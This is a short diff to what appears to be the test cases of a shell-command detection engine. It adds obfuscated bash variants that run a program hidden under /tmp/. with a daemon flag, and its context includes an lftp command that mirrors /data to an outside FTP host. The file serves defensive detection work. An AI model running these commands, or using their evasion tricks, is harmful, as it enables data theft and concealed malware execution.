@@ -333,6 +333,8 @@ def builtin_engine():
     ("echo mirror_-R_/data | tr _ ' ' | xargs -I{} lftp -e {} ftp://1.2.3.4", "bash", "ftp_tftp_put"),
     ("echo /tmp/._/x | tr _ ' ' | xargs -I{} {} -d", "bash", "program_run_from_hidden_or_temp_with_daemon_name"),
     ('"/tmp/.$IFS/x" -d | cat', "bash", "program_run_from_hidden_or_temp_with_daemon_name"),
+    ('"/tmp/.$IFS/x" -d', "bash", "program_run_from_hidden_or_temp_with_daemon_name"),
+    ("xargs -I{} {} -d < <(tr _ ' ' <<< /tmp/._/x)", "bash", "program_run_from_hidden_or_temp_with_daemon_name"),
     ("alias x=xargs\necho /tmp/ /x|x -I{} {} -d", "bash", "program_run_from_hidden_or_temp_with_daemon_name"),
     ("xargs -I{} {} -d <<EOF\n/tmp/. /x\nEOF", "bash", "program_run_from_hidden_or_temp_with_daemon_name"),
 ])
